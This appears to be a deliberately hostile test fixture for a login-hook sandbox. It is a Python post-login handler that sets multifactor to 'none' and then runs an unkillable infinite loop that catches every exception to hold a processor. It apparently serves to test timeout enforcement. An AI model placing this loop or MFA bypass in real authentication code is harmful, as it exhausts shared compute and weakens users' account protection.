"""Hostile: hold a processor for ever, and catch whatever is thrown to end it."""


def on_execute_post_login(event, api):
    api.multifactor.enable("none")
    while True:
        try:
            sum(range(1000))
        except Exception:
            pass
